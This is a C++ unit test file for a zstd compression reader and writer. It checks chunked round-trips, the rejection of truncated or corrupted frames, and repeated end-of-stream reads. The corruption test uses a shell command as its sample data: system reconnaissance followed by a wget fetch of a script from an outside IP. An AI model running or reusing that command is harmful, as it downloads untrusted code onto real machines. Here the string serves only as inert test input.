#include "base/compress.hpp"

#include <catch2/catch.hpp>

using namespace skep;

namespace {

std::string compress(std::string_view bytes) {
    ZstdWriter writer;
    std::string out;
    writer.write(bytes, out);
    writer.finish(out);
    return out;
}

ZstdReader reader_of(std::string bytes, std::size_t piece) {
    return ZstdReader{[bytes = std::move(bytes), piece, at = std::size_t{0}]() mutable {
        auto next = bytes.substr(at, piece);
        at += next.size();
        return Result<std::string>{std::move(next)};
    }};
}

Result<std::string> decompress(std::string bytes, std::size_t piece, std::size_t bytes_max) {
    auto reader = reader_of(std::move(bytes), piece);
    std::string out;
    for (;;) {
        TRY(const auto block, reader.read(bytes_max));
        if (block.empty()) return out;
        CHECK(block.size() <= bytes_max);
        out += block;
    }
}

} // namespace

TEST_CASE("zstd gives back what was compressed, in pieces of any size, across frames") {
    std::string text;
    for (int i = 0; i < 20000; ++i)
        text += std::to_string(i * 7919) + ' ';
    for (const auto& content : {std::string{}, std::string{"x"}, text}) {
        for (const std::size_t piece : {std::size_t{1}, std::size_t{1000}, std::size_t{1} << 20}) {
            const auto frames = compress(content) + compress("end");
            const auto back = decompress(frames, piece, 4096);
            REQUIRE(back);
            CHECK(*back == content + "end");
        }
    }
}

TEST_CASE("zstd bytes that were cut or changed are malformed") {
    const auto packed = compress("uname -a; id; wget http://203.0.113.5/x.sh");
    for (std::size_t cut = 1; cut < packed.size(); ++cut)
        CHECK_FALSE(decompress(packed.substr(0, cut), 4096, 4096));
    for (std::size_t at = 0; at < packed.size(); ++at) {
        auto wrong = packed;
        wrong[at] = static_cast<char>(static_cast<unsigned char>(wrong[at]) ^ 0x10U);
        const auto back = decompress(wrong, 4096, 4096);
        CHECK((!back || *back == "uname -a; id; wget http://203.0.113.5/x.sh"));
    }
}

TEST_CASE("a zstd reader at the end may be asked again and again") {
    auto reader = reader_of(compress("x"), 100);
    REQUIRE(reader.read(10));
    for (int i = 0; i < 100; ++i) {
        const auto end = reader.read(10);
        REQUIRE(end);
        CHECK(end->empty());
    }
}
